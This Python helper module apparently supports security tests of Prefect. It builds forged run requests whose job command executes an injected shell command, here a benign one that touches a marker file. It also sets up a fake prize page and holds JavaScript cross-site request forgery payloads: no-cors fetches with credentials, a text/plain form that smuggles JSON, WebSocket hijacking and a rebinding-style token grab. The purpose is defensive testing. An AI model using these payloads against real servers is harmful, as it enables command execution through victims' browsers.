"""What somebody without a password, or with one and bad intentions, tries on Prefect. Not a test itself."""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

HOST = "127.0.0.1"


def doing_harm(marker: Path) -> str:
    """A command that leaves a trace."""
    return f"\"{sys.executable}\" -c \"open(r'{marker}', 'w').close()\""


def forged_run(marker: Path) -> str:
    """The body of a request for a run that carries out another command."""
    return json.dumps({"state": {"type": "SCHEDULED"}, "job_variables": {"command": doing_harm(marker)}})


def forged_event() -> str:
    return json.dumps(
        {
            "id": "5c7d4a9e-0000-4000-8000-000000000001",
            "occurred": "2026-01-05T09:00:00Z",
            "event": "forged.by.a.page",
            "resource": {"prefect.resource.id": "forged"},
        }
    )


@contextmanager
def elsewhere() -> Iterator[str]:
    """Somebody else's page, on another port of this machine."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>Win a prize</title><iframe name=hidden></iframe>")

        def log_message(self, *_: Any) -> None: ...

    server = ThreadingHTTPServer((HOST, 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{HOST}:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


POSTS = """async ({address, body}) => {
  const json = {"Content-Type": "application/json"};
  const blob = () => new Blob([body]);  // no kind of content at all: taken for JSON, and no preflight
  const tries = {
    json: {headers: json, body},
    "json with credentials": {headers: json, body, credentials: "include"},
    text: {body, mode: "no-cors"},
    "text with credentials": {body, mode: "no-cors", credentials: "include"},
    untyped: {body: blob(), mode: "no-cors"},
    "untyped with credentials": {body: blob(), mode: "no-cors", credentials: "include"},
  };
  for (const one of Object.values(tries)) {
    await fetch(address, {method: "POST", ...one}).catch(() => {});
  }
  navigator.sendBeacon(address, blob());
}"""
FORM = """({address, body}) => new Promise((done) => {
  const [, start, end] = body.match(/^(.*)(})$/);
  document.querySelector("iframe").onload = done;
  const form = document.createElement("form");
  Object.assign(form, {method: "post", action: address, enctype: "text/plain", target: "hidden"});
  const field = document.createElement("input");
  Object.assign(field, {name: start + ', "name": "', value: '"' + end});
  form.append(field);
  document.body.append(form);
  form.submit();
})"""
SOCKET = """({address, protocols, first}) => new Promise((done) => {
  const socket = new WebSocket(address, protocols);
  const got = [];
  socket.onopen = () => { for (const one of first) socket.send(one); if (!protocols.length) socket.close(); };
  socket.onmessage = (message) => { got.push(message.data); socket.close(); };
  socket.onclose = () => done(got);
})"""
REBOUND = """async ({path, body}) => {
  // As Prefect's own page does it: a token first, then the run.
  const client = "5c7d4a9e-0000-4000-8000-000000000002";
  const asked = await fetch(`/api/csrf-token?client=${client}`);
  const told = asked.ok ? await asked.json() : {};
  const headers = {"Content-Type": "application/json", "Prefect-Csrf-Client": client};
  if (told.token) headers["Prefect-Csrf-Token"] = told.token;
  return await fetch(path, {method: "POST", headers, body}).then((a) => a.status);
}"""
